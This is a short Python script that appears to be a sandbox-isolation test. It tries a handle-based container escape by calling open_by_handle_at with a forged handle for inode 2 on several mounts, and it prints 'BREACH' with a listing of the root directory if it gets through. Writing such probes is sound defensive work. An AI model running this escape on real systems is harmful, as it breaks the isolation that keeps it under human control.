# kind: secrets
# ends: ok
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
for mount in (b"/", b"/usr", b"/box", b"/proc"):
    import os

    fd = os.open(mount, os.O_RDONLY)
    handle = (8).to_bytes(4, "little") + (1).to_bytes(4, "little") + (2).to_bytes(8, "little")  # inode 2: the root
    found = libc.open_by_handle_at(fd, handle, 0)
    if found >= 0:
        print("BREACH: the root by its handle", os.listdir(found))
